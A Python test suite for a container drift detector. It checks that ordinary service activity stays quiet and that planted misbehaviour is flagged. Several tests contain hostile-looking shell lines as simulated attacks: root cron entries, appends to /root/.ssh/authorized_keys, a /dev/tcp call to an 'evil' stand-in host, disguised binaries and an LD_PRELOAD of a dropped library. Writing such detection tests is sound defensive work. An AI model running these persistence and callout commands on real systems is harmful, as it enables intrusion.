# SPDX-License-Identifier: GPL-2.0-or-later
"""Ordinary life is not drift: what services do day by day, after their baseline is active, is quiet, and what hides
behind it is found. Each workload has several containers of one compose service, so that "at every start" can be seen."""
import os
import shutil
import subprocess

from lab import Shell, check, run, wait
from net import Net
from test_mapped import image as dynamic_image
from test_mapped import libraries

REASON = ("--reason", "it is ours")
UNPACKS = r"""
#include <dlfcn.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>
int main(void) /* as JNA and PyInstaller do: a library of its own, unpacked under a name of chance, loaded, kept */
{
        static char data[1 << 20], path[64];
        int from = open("/opt/native.bin", O_RDONLY), to;
        ssize_t n = read(from, data, sizeof(data));
        srandom((unsigned)time(NULL) ^ (unsigned)getpid() << 16);
        snprintf(path, sizeof(path), "/tmp/jna%lu%09lu.tmp", (unsigned long)random(), (unsigned long)random());
        to = open(path, O_CREAT | O_EXCL | O_WRONLY, 0600);
        if (n <= 0 || write(to, data, (size_t)n) != n || close(to) < 0 || !dlopen(path, RTLD_NOW))
                return 1;
        fclose(fopen("/ctl/loaded", "w"));
        for (;;)
                pause();
}
"""
INIT = r"""# an init script of the image
mkdir -p /var/lib/app /opt/conf
cp /etc/one.conf /opt/conf/app.conf
echo "host $HOSTNAME" >> /opt/conf/app.conf
chmod 640 /opt/conf/app.conf; chown 1000 /var/lib/app; ln -sf app.conf /opt/conf/current
date > /var/lib/app/initialised
"""


def image(lab):
    """The dynamic image of test_mapped with bash, a program that unpacks a library, and a script."""
    root = os.path.join(lab.dir, "ordinary")
    if os.path.exists(root):
        return "localhost/ordinary:1"
    dynamic_image(lab)
    shutil.copytree(os.path.join(lab.dir, "dynamic"), root, symlinks=True)
    shutil.copy(lab.dir + "/dropped.so", root + "/opt/native.bin")
    shutil.copy(shutil.which("bash"), root + "/bin/bash")
    r = run(["gcc", "-O1", "-o", root + "/bin/unpacks", "-x", "c", "-", "-ldl"], input=UNPACKS)
    check(r.returncode == 0, "gcc", r.stderr)
    for path in libraries(root + "/bin/bash") + libraries(root + "/bin/unpacks"):
        os.makedirs(root + os.path.dirname(path), exist_ok=True)
        shutil.copy(os.path.realpath(path), root + path)
    for path in ("etc/cron.d", "root/.ssh", "var/log", "var/cache/app"):
        os.makedirs(os.path.join(root, path), exist_ok=True)
    with open(root + "/etc/init.sh", "w") as out:
        out.write(INIT)
    put(lab, root, "localhost/ordinary:1")
    return "localhost/ordinary:1"


def put(lab, root, tag):
    tar = subprocess.Popen(["tar", "-C", root, "-c", "."], stdout=subprocess.PIPE)
    r = subprocess.run(lab.engine + ["import", "-q", "-", tag], stdin=tar.stdout, capture_output=True, text=True, env=dict(os.environ, CONTAINERS_CONF=lab.conf))
    check(r.returncode == 0, "podman import", r.stderr)


class Service:
    """A compose service: a daemon, a watcher, and containers that begin with a few lines of shell."""

    def __init__(self, lab, name, begin=":", config=None, make=None, tag=None):
        self.lab, self.name, self.begin, self.tag = lab, name, begin, tag
        self.make = make or lab.container
        self.workload = "life/" + name
        self.d = lab.daemon(config=config)
        self.w = self.d.watch()
        self.all = []

    def start(self, *options):
        name = "life_%s_%d" % (self.name, len(self.all) + 1)
        entry = ["/bin/bash", "-c", self.begin + "\n" + Shell.ENTRY[2]]
        c = self.make(name, "--label", "com.docker.compose.project=life", "--label", "com.docker.compose.service=" + self.name, *options,
                      entry=entry, image=self.tag or image(self.lab))
        self.all.append(c)
        self.d.covered(name)
        self.settle(c)
        return c

    def settle(self, c):
        """All that the container has done is judged: so is what it does behind it."""
        before = len(self.marks(c))
        c.sh("echo behind > /opt/behind")
        wait("what came behind it to be told", lambda: len(self.marks(c)) > before)

    def marks(self, c):
        return [e for e in self.w.events("file", c.id) if e["path"] == "/opt/behind" and "write" in e["operation"]]

    def does(self, line, *containers):
        for c in containers or self.all[-1:]:
            c.sh(line)
            self.settle(c)

    def activate(self):
        self.d.activate(self.workload)

    def findings(self, every=True):
        return [f for f in self.d.findings(self.workload, every=every) if f["type"] == "drift"]

    def quiet(self, what):
        """Nothing, above the threshold or below; but who wrote what when the kernel's queue overflowed is not known."""
        raised = [f for f in self.findings() if not (f["loss"] and f["below_show"])]
        check(not raised, what + " is quiet", "\n".join(self.brief()))

    def brief(self):
        """What a failed test has to say of the findings."""
        return ["%s (%s %%): %s" % (f["id"], f["confidence"], "; ".join("%s %s by %s x%d" % (x["operation"], x["key"], x["executable"], x["count"]) for x in f["signals"]))
                for f in self.findings()]

    def subjects(self, every=True):
        return [s["subject"] for f in self.findings(every) for s in f["signals"]]

    def items(self):
        found = self.d.json("baseline", "review", self.workload)
        return [(i, g) for g in (found[0]["groups"] if found else []) for i in g["items"]]

    def full(self):
        return self.d.workload(self.workload)["id"]

    def approve(self, what):
        """All candidates that the word fits, one by one, by their own ids."""
        items = wait("a candidate for " + what, lambda: [i for i, g in self.items() if what in g["key"] or what in g["subject"]])
        for i in items:
            r = self.d.tidemark("baseline", "approve", self.full(), i, *REASON)
            check(r.returncode == 0, "baseline approve " + i, r.stderr)
        return items


def test_initialised_once(lab):
    """A script of the image prepares each new container, and never runs again in it."""
    s = Service(lab, "once", "test -e /var/lib/app/initialised || sh /etc/init.sh")
    s.start()
    s.activate()
    for _ in range(2):
        c = s.start()
        check("initialised" in os.listdir(c.upper() + "/var/lib/app"), "it ran")
    s.quiet("an init script")


def test_runtimes_own_acts(lab):
    """Hosts, name, resolvers and mount points are written before the first program; a session makes a memfd of runc."""
    s = Service(lab, "runtime")
    s.start()
    s.activate()
    one = os.path.join(lab.dir, "one-file")
    with open(one, "w") as out:
        out.write("x")
    c = s.start("--hostname", "other", "--add-host", "db.test:10.1.2.3", "--tmpfs", "/scratch", "-v", one + ":/etc/mounted.conf", "-v", lab.dir + ":/srv/deeply/nested:ro")
    c.stop()
    c.start()
    s.d.covered(c.name)
    s.settle(c)
    c.exec("/bin/true")
    c.exec("/bin/sh", "-c", "/bin/date > /dev/null")
    s.settle(c)
    bad = [x for f in s.d.findings(s.workload, every=True) for x in f["signals"] if x["layer"] in ("memfd", "deleted") or x["subject"].startswith(("/etc/", "/run", "/srv"))]
    check(not bad, "nothing of the runtime's", bad)
    check(not [e for e in s.w.events("exec", c.id) if e["layer"] in ("memfd", "deleted")], "nor as an act", s.w.events("exec", c.id))
    check(not [e for e in s.w.events("file", c.id) if e["path"] in ("/etc/hosts", "/etc/hostname", "/etc/resolv.conf", "/run/.containerenv")], "nor as a file", s.w.events("file", c.id))


def test_health_check_first_seen_late(lab):
    """A health check that is switched on after the baseline is active runs the image's files: it is quiet."""
    s = Service(lab, "healthy")
    s.start()
    s.activate()
    c = s.start("--health-cmd", "/bin/sh -c '/bin/cat /etc/one.conf > /tmp/health-state && /bin/true'", "--health-interval", "disable")
    for _ in range(4):
        r = lab.podman("healthcheck", "run", c.name)
        check(r.returncode == 0, "podman healthcheck run", r.stdout, r.stderr)
        s.settle(c)
    bad = [x for f in s.findings(every=False) for x in f["signals"]]
    check(not bad, "a health check is quiet", bad)


NAMES = ("t=$(mktemp); echo x > $t; rm $t; t=$(mktemp -d /tmp/build.XXXXXXXXXX); echo x > $t/part; rm -r $t; t=$(mktemp /opt/.save.XXXXXXXXXX); echo x > $t; mv $t /opt/state.json; "
         "echo $$ > /run/app.$$.pid; rm /run/app.$$.pid; h=$(date +%s%N | sha1sum | cut -c1-40); echo x > /var/cache/app/$h; rm /var/cache/app/$h; "
         "u=$(cat /proc/sys/kernel/random/uuid); echo x > /opt/job-$u.json; rm /opt/job-$u.json; echo x > /opt/export-$(date +%Y%m%dT%H%M%SZ).csv; rm /opt/export-*")


def applets(line):
    """Programs that the image has no links for are busybox' all the same."""
    for name in ("mktemp", "sha1sum", "cut"):
        line = line.replace("$(%s" % name, "$(busybox %s" % name).replace("| %s" % name, "| busybox %s" % name)
    return line


def test_names_of_chance(lab):
    s = Service(lab, "chance")
    c = s.start()
    for _ in range(3):
        s.does("mkdir -p /run /var/cache/app; " + applets(NAMES))
    s.activate()
    for _ in range(12):
        c.sh(applets(NAMES))
    s.settle(c)
    s.quiet("a name of chance")


ROTATE = ("for i in 5 4 3 2 1; do test -e /var/log/app.log.$i && mv /var/log/app.log.$i /var/log/app.log.$((i+1)); done; mv /var/log/app.log /var/log/app.log.1; : > /var/log/app.log; "
          "cp /var/log/app.log.1 /var/log/app-$(date +%Y%m%d).log; busybox gzip -f /var/log/app-$(date +%Y%m%d).log; rm -f /var/log/app.log.6")


def test_logs_rotate(lab):
    s = Service(lab, "rotated", "mkdir -p /var/log; echo begins > /var/log/app.log")
    c = s.start()
    for _ in range(2):
        s.does("echo line >> /var/log/app.log; " + ROTATE)
    s.activate()
    for _ in range(7):
        c.sh("echo line >> /var/log/app.log; " + ROTATE)
    s.settle(c)
    s.quiet("log rotation")
    # The way of logs is no way for programs.
    c.sh("cp /bin/busybox /var/log/app.log.3; chmod 755 /var/log/app.log.3; /var/log/app.log.3 true")
    wait("a program that is named as a log", lambda: any(x["subject"] == "/var/log/app.log.3" and x["operation"] == "exec" for f in s.findings(every=False) for x in f["signals"]))


def test_short_jobs(lab):
    """What cron starts lives for milliseconds, by a shell of its own, with a lock and a report."""
    job = "(sh -c 'umask 022; mkdir /tmp/job.lock && { cat /etc/one.conf | busybox wc -l > /var/log/job.report; busybox find /opt -name x > /dev/null; rmdir /tmp/job.lock; }')"
    s = Service(lab, "cron", "mkdir -p /var/log")
    c = s.start()
    for _ in range(2):
        s.does(job)
    s.activate()
    for _ in range(10):
        c.sh(job)
    s.settle(c)
    s.quiet("a short job")
    c = s.start()
    s.does(job)
    s.quiet("the same in a replica")


def test_more_replicas(lab):
    s = Service(lab, "many", "mkdir -p /var/lib/app; echo $HOSTNAME > /var/lib/app/node-$HOSTNAME; date > /opt/started")
    s.start()
    s.does("cat /opt/started > /var/lib/app/copy")
    s.activate()
    for _ in range(3):
        s.start()
        s.does("cat /opt/started > /var/lib/app/copy")
    s.quiet("more replicas")
    s.all[1].stop()
    s.all[1].start()
    s.d.covered(s.all[1].name)
    s.settle(s.all[1])
    s.quiet("one that is started again")


def runs(s, word):
    """So often it was counted that this ran, or was loaded: its file is learned as any other, where its making was told."""
    return sum(x["count"] for f in s.findings() for x in f["signals"] if x["operation"] in ("exec", "map") and word in x["key"])


WRAPPER = "printf '#!/bin/bash\\n# %s %s\\nwhile :; do sleep 1000; done\\n' \"$HOSTNAME\" \"$(date +%s%N)\" > {0}; chmod 755 {0}; {0} &"


def test_wrapper_at_every_start(lab):
    """Written by the entrypoint and run, another content each time: raised once, approved once, quiet from then on; not so
    when somebody else has written it."""
    s = Service(lab, "wrapped", WRAPPER.format("/opt/local-run"))
    s.start()
    f = wait("it to be raised, although it learns", lambda: s.findings(every=False))
    check(any(x["name"] == "written_at_start" for x in f[0]["factors"]), "and by whom it was written", f)
    s.start()
    wait("the second start in the same finding", lambda: any(len(f["containers"]) == 2 for f in s.findings()))
    s.activate()
    s.approve("/opt/local-run [write-layer]")
    before = runs(s, "/opt/local-run")
    for _ in range(2):
        c = s.start()
    check(runs(s, "/opt/local-run") == before, "quiet after one approval", "\n".join(s.brief()), d_entries(s))
    c.sh("cp /bin/busybox /opt/local-run.new; mv /opt/local-run.new /opt/local-run; /opt/local-run true")
    wait("another program under that name", lambda: runs(s, "/opt/local-run") > before)
    check(any(f["confidence"] >= 95 for f in s.findings(every=False) if any(x["key"].startswith("/opt/local-run [write-layer]") for x in f["signals"])), "and is serious", "\n".join(s.brief()))


def d_entries(s):
    return [[e[k] for k in ("key", "executable", "count", "approved_by")] for e in s.d.json("baseline", "show", s.workload)["entries"] if e["dimension"] == "process"]


def test_wrapper_of_chance(lab):
    """The same under a name that mktemp draws."""
    s = Service(lab, "drawn", "w=$(busybox mktemp /tmp/wrap.XXXXXXXXXX); " + WRAPPER.format("$w"))
    s.start()
    wait("it to be raised", lambda: s.findings(every=False))
    s.activate()
    s.approve("/tmp/wrap.<rand> [write-layer]")
    before = runs(s, "/tmp/wrap.")
    for _ in range(3):
        s.start()
    check(runs(s, "/tmp/wrap.") == before, "quiet under another name", "\n".join(s.brief()), d_entries(s))


def test_library_at_every_start(lab):
    """A runtime unpacks its native part under a name of chance and loads it."""
    s = Service(lab, "native", "/bin/unpacks &")
    c = s.start()
    wait("it to be loaded", lambda: os.path.exists(c.ctl + "/loaded"))
    s.does("/bin/sleep 0.01")
    f = wait("it to be raised, although it learns", lambda: [f for f in s.findings(every=False) if any(x["operation"] == "map" for x in f["signals"])])
    check(len(f) == 1, "once", f)
    s.activate()
    s.approve("/tmp/jna")
    before = runs(s, "/tmp/jna")
    for _ in range(2):
        c = s.start()
        wait("it to be loaded", lambda: os.path.exists(c.ctl + "/loaded"))
        looks = s.d.json("status")["processes"]["mapped"]["looks"]
        c.sh("/bin/sleep 0.2")
        wait("a look at mappings", lambda: s.d.json("status")["processes"]["mapped"]["looks"] > looks)
    check(runs(s, "/tmp/jna") == before, "quiet after one approval", "\n".join(s.brief()), d_entries(s))
    # Dropped later, by another program, and loaded by the same one: that is no part of it.
    c.sh("cat /opt/native.bin > /tmp/jna12345678.tmp; (LD_PRELOAD=/tmp/jna12345678.tmp /bin/unpacks) &")
    wait("a library that was dropped later", lambda: runs(s, "/tmp/jna") > before)


def test_many_in_one_program(lab):
    """Busybox is a hundred programs: known as one, and what each of them writes is judged by its file."""
    work = "cat /etc/one.conf > /opt/copy; cp /opt/copy /opt/copy2; busybox sed s/image/container/ /opt/copy > /opt/copy2; touch /opt/mark; busybox sort /opt/copy2 > /opt/sorted; ls -l /opt > /opt/listing; rm /opt/mark"
    s = Service(lab, "box")
    c = s.start()
    for _ in range(2):
        s.does(work)
    s.activate()
    for _ in range(5):
        c.sh(work)
    s.settle(c)
    s.quiet("a known applet")
    c.sh("echo '* * * * * root /tmp/x' > /etc/cron.d/x; cp /opt/copy /root/.ssh/authorized_keys")
    for path in ("/etc/cron.d/x", "/root/.ssh/authorized_keys"):
        wait("what an applet wrote: " + path, lambda: path in s.subjects(every=False))


def test_builtins_and_a_call(lab):
    """A shell that runs nothing: it writes with builtins, and calls by its own device."""
    net = Net(lab)
    net.names({"api.example.test": ["198.51.100.1"], "evil.example.test": ["203.0.113.66"]})
    for a in ("198.51.100.1", "203.0.113.66"):
        net.serve(a, 80)
    s = Service(lab, "shell", make=net.container)
    c = s.start()
    call = "exec 3<>/dev/tcp/%s/80; echo hello >&3; exec 3>&-"

    def learned():
        c.sh(call % "api.example.test")
        return [e for e in s.w.events("flow", c.id) if e["remote"] == "198.51.100.1" and e["names"]]
    wait("calls to be watched", learned)
    s.does("echo line >> /opt/log")
    s.activate()
    c.sh(call % "api.example.test" + "; echo line >> /opt/log")
    s.settle(c)
    s.quiet("what it always does")
    seen = len(s.w.events("exec", c.id))
    c.sh("echo key >> /root/.ssh/authorized_keys; echo '* * * * * root x' > /etc/cron.d/y; " + call % "203.0.113.66")
    for path in ("/etc/cron.d/y", "/root/.ssh/authorized_keys"):
        wait("what a builtin wrote: " + path, lambda: path in s.subjects(every=False))
    wait("whom it called", lambda: any(x["kind"] == "network" and x["address"] == "203.0.113.66" for f in s.findings(every=False) for x in f["signals"]))
    check(len(s.w.events("exec", c.id)) == seen, "and nothing ran", s.w.events("exec", c.id))


def declared(s, *argv):
    r = s.d.tidemark("suppress", "add", "--workload", s.workload, "--until", "1h", "--reason", "CHG-17", *argv)
    check(r.returncode == 0, "suppress add", r.stderr)


def held_back(s):
    return [x["subject"] for f in s.d.json("findings", "--suppressed", "--workload", s.workload) for x in f["signals"]]


def test_operators_shell_in_a_window(lab):
    """Somebody looks, edits and restarts in a declared window: nothing in the queue; what nobody may get used to is."""
    s = Service(lab, "hands")
    c = s.start()
    s.activate()
    declared(s)
    c.exec("/bin/sh", "-c", "ls /etc > /opt/seen; cat /etc/one.conf >> /etc/two.conf; date; busybox vi -c q /etc/one.conf < /dev/null > /dev/null; true")
    wait("it to be kept back", lambda: "/etc/two.conf" in held_back(s))
    shown = [f for f in s.d.findings(s.workload) if not f["suppressed"]]
    check(not shown, "a session in its window is quiet", shown)
    c.exec("/bin/sh", "-c", "cp /bin/busybox /opt/true; chmod 755 /opt/true; /opt/true")
    wait("a program that was brought along", lambda: any(x["subject"] == "/opt/true" for f in s.d.findings(s.workload) if not f["suppressed"] for x in f["signals"]))


def test_update_in_a_window(lab):
    """A job that updates a package: files of the image are replaced, its scripts run, caches come and go. The window that is
    declared for it keeps all of it out of the queue, and nothing of it is learned."""
    s = Service(lab, "update")
    c = s.start()
    s.activate()
    declared(s, "--break-through", "100")
    s.does("mkdir -p /var/cache/apk /var/lib/apk; echo index > /var/cache/apk/APKINDEX.0a1b2c3d.tar.gz; cp /bin/busybox /bin/.apk.0123456789abcdef01; chmod 755 /bin/.apk.0123456789abcdef01; "
           "mv /bin/.apk.0123456789abcdef01 /bin/busybox; echo new > /etc/one.conf; echo 'date > /var/lib/apk/done' > /var/lib/apk/post-install; sh /var/lib/apk/post-install; rm /var/lib/apk/post-install")
    wait("it to be kept back", lambda: {"/etc/one.conf", "/bin/busybox"} <= set(held_back(s)))
    shown = [f for f in s.d.findings(s.workload) if not f["suppressed"]]
    check(not shown, "a package update in its window is quiet", shown)
    keys = [e["key"] for e in s.d.json("baseline", "show", s.workload)["entries"] if not e["candidate"]]
    check(not any(k.startswith(("/etc/one.conf", "/var/cache/apk", "/bin/.apk")) for k in keys), "and teaches nothing", keys)


def test_new_image_version(lab):
    """Packages are newer, the program is another file: it does what it did, and is quiet."""
    s = Service(lab, "release", "test -e /var/lib/app/initialised || sh /etc/init.sh", config='rollout: { least = "2s"; };')
    c = s.start()
    work = "cat /etc/one.conf > /opt/copy; busybox sort /opt/copy > /opt/sorted; echo line >> /opt/log"
    for _ in range(2):
        s.does(work)
    s.activate()
    root = os.path.join(lab.dir, "ordinary-2")
    shutil.copytree(os.path.join(lab.dir, "ordinary"), root, symlinks=True)
    with open(root + "/bin/busybox", "ab") as out:
        out.write(b"a newer one")
    for path, text in (("/etc/init.sh", INIT + "# newer\n"), ("/etc/one.conf", "as the newer image has it\n"), ("/etc/version", "2\n")):
        with open(root + path, "w") as out:
            out.write(text)
    put(lab, root, "localhost/ordinary:2")
    c.remove()
    s.tag = "localhost/ordinary:2"
    s.start()
    for _ in range(2):
        s.does(work)
    s.quiet("a new version")
    items = [f for f in s.d.findings(s.workload, every=True) if f["type"] != "drift"]
    check(len(items) <= 1 and all(f["type"] == "roll-out" for f in items), "one item for review at most", items)
